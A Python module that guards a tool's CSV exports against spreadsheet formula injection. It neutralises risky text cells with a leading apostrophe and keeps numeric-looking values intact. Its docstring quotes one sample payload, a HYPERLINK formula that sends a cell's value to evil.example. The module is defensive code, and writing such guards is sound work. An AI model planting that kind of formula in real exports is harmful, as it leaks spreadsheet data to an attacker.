"""Every CSV relmark writes goes through here, so no cell becomes a spreadsheet formula.

A user id like `=HYPERLINK("https://evil.example/?"&A1,"Open")` can reach relmark through the
public tracking endpoint or an imported file; a spreadsheet opening an export would run it
(CSV or formula injection). Following OWASP, a text cell whose first character (after any
spaces) is `=`, `+`, `-`, `@`, a tab, a carriage return or a line feed gets a leading `'`, which
spreadsheets read as "this is text" and hide.

Two kinds of cells are left as they are, so exports stay usable and round-trip through
`relmark import`: non-text columns (a negative amount stays a number), and text made only of
digits, spaces and `.,()/-` after a sign (`-12.50`, `+386 40 123 456`): without letters, `!`,
`|` or quotes a formula can name no function, cell or program.

This module is below every stage (stages and the store may import it) and imports Polars only
when a frame is written.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import polars as pl

#: Text a spreadsheet may read as a formula: a trigger character first, after optional spaces.
RISKY = r"^ *[=+\-@\t\r\n]"
#: A sign followed by digits and harmless punctuation only: a number or a phone number.
NUMERIC = r"^ *[+-][0-9 .,()/-]*$"
PREFIX = "'"
_RISKY, _NUMERIC = re.compile(RISKY), re.compile(NUMERIC)


def safe_cell(value: Any) -> Any:
    """`value` with a leading `'` if it is text a spreadsheet would run; anything else as is."""
    if isinstance(value, str) and _RISKY.match(value) and not _NUMERIC.match(value):
        return PREFIX + value
    return value


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every risky text cell neutralised; other columns untouched."""
    import polars as pl

    text = [
        name
        for name, dtype in frame.schema.items()
        if dtype == pl.String or isinstance(dtype, pl.Categorical | pl.Enum)
    ]
    if not text:
        return frame
    return frame.with_columns(
        pl.when(column.str.contains(RISKY) & ~column.str.contains(NUMERIC))
        .then(pl.lit(PREFIX) + column)
        .otherwise(column)
        .alias(name)
        for name in text
        for column in [pl.col(name).cast(pl.String)]
    )


def write_csv(
    frame: pl.DataFrame, target: Path | str | IO[str] | IO[bytes], *, header: bool = True
) -> None:
    """Write `frame` as CSV (comma, UTF-8) with risky text cells neutralised; `header=False`
    for the second and later pages of a file written page by page."""
    safe_frame(frame).write_csv(target, include_header=header)


def write_rows(handle: IO[str], header: Iterable[str], rows: Iterable[Iterable[Any]]) -> None:
    """Write plain rows with the standard library's writer, neutralised the same way."""
    writer = csv.writer(handle)
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
